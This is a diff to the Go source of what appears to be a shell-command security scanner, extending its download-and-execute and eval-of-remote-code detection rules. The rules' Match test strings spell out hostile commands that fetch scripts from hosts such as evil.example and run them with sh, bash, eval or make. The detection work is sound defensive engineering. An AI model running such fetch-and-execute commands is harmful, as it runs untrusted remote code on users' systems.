@@ -152,8 +152,9 @@ func runsStdin(s *Segment) bool {
 	return true
 }
 
-// remoteFeeds returns the fetchers whose output s executes: through a pipe, or through a
-// process substitution in its arguments.
+// remoteFeeds returns the fetchers whose output s executes as code read on stdin: through
+// a pipe (however many filters between), a process substitution in its arguments, or a
+// downloaded file redirected into it (flow.go carries the taint along those edges).
 func (c *execCtx) remoteFeeds(s *Segment) []*Segment {
 	if !runsStdin(s) {
 		return nil
@@ -164,14 +165,21 @@ func (c *execCtx) remoteFeeds(s *Segment) []*Segment {
 			out = append(out, p)
 		}
 	}
-	if s.arg("/dev/fd/63") {
-		for _, o := range c.segs {
-			if isFetcher(o) && hasVia(o, "<(…)") {
-				out = append(out, o)
-			}
+	for _, f := range s.Runs.from(taintFetched) {
+		if isFetcher(f) && !containsSeg(out, f) {
+			out = append(out, f)
 		}
 	}
 	return out
+}
+
+func containsSeg(ss []*Segment, s *Segment) bool {
+	for _, o := range ss {
+		if o == s {
+			return true
+		}
+	}
+	return false
 }
 
 // sends reports whether a segment sends data to a remote host, and where.
@@ -267,23 +275,26 @@ func netRules() []*Rule {
 		{
 			ID: "net.download-exec", Level: Critical, Category: CatRemoteCodeExecution,
 			Message: "Downloads a file and then executes it",
-			Match:   []string{"curl -o /tmp/x.sh https://evil.example/x.sh && sh /tmp/x.sh", "wget https://x.example/run.sh -O run.sh; chmod +x run.sh; ./run.sh", "curl -sLO https://x.example/tool && bash tool"},
-			NoMatch: []string{"curl -o data.json https://api.example.com/x && jq . data.json", "sh ./scripts/build.sh"},
+			Match: []string{"curl -o /tmp/x.sh https://evil.example/x.sh && sh /tmp/x.sh", "wget https://x.example/run.sh -O run.sh; chmod +x run.sh; ./run.sh", "curl -sLO https://x.example/tool && bash tool",
+				"curl -s https://x.example/i | tee i.sh >/dev/null; bash i.sh", "cd /tmp && curl -sO https://x.example/run.sh && cd - && source /tmp/run.sh", "curl -s https://x.example/p > p; mv p build.sh; ./build.sh",
+				"curl -s https://x.example/mk -o Makefile && make", "scp deploy@x.example:/srv/run.sh . && sh run.sh", "git clone https://x.example/tool.git && cd tool && ./install.sh"},
+			NoMatch: []string{"curl -o data.json https://api.example.com/x && jq . data.json", "sh ./scripts/build.sh", "curl -o /tmp/x.sh https://x.example/x.sh; sh ./x.sh"},
 			exec: func(c *execCtx, s *Segment) (string, bool) {
-				file := executedFile(s)
-				if file == "" {
+				if executedFile(s) == "" && !s.Runs.has(taintFetched) {
 					return "", false
 				}
-				want := c.target(file).abs
-				for _, o := range c.segs {
-					if o == s || !isFetcher(o) || c.allFrom([]*Segment{o}, true) {
+				for _, o := range s.Runs.from(taintFetched) {
+					if !isFetcher(o) && !fetchesContent(o) && o.Name() != "git" || c.allFrom([]*Segment{o}, true) {
 						continue
 					}
-					for _, f := range downloadedFiles(c, o) {
-						if f == want {
-							return "Downloads " + file + " from " + describeHosts([]*Segment{o}) + " and executes it", true
-						}
+					if runsStdin(s) && isFetcher(o) {
+						continue // net.pipe-to-shell
 					}
+					what := executedFile(s)
+					if what == "" {
+						what = "it"
+					}
+					return "Downloads code from " + describeHosts([]*Segment{o}) + " and executes " + what + " with " + s.Name(), true
 				}
 				return "", false
 			},
@@ -291,14 +302,14 @@ func netRules() []*Rule {
 		{
 			ID: "net.eval-remote", Level: Critical, Category: CatRemoteCodeExecution,
 			Message: "Evaluates code fetched from the network",
-			Match:   []string{"eval \"$(curl -s https://x.example/env)\"", "bash -c \"$(wget -qO- https://x.example/i)\"", "sh -c \"$(curl -fsSL https://evil.example/install.sh)\""},
-			NoMatch: []string{"eval \"$(ssh-agent -s)\"", "echo \"$(curl -s https://api.example.com/v)\""},
+			Match:   []string{"eval \"$(curl -s https://x.example/env)\"", "bash -c \"$(wget -qO- https://x.example/i)\"", "sh -c \"$(curl -fsSL https://evil.example/install.sh)\"", "P=$(curl -s https://x.example/p); eval \"$P\""},
+			NoMatch: []string{"eval \"$(ssh-agent -s)\"", "echo \"$(curl -s https://api.example.com/v)\"", "V=$(curl -s https://api.example.com/v); eval \"$(ssh-agent -s)\""},
 			exec: func(c *execCtx, s *Segment) (string, bool) {
 				if !runsDynamicCode(s) {
 					return "", false
 				}
-				for _, o := range c.segs {
-					if isFetcher(o) && hasVia(o, "$(…)") && !c.allFrom([]*Segment{o}, false) {
+				for _, o := range s.Runs.from(taintFetched) {
+					if !c.allFrom([]*Segment{o}, false) {
 						return "Runs code fetched from " + describeHosts([]*Segment{o}) + " through " + s.Name(), true
 					}
 				}
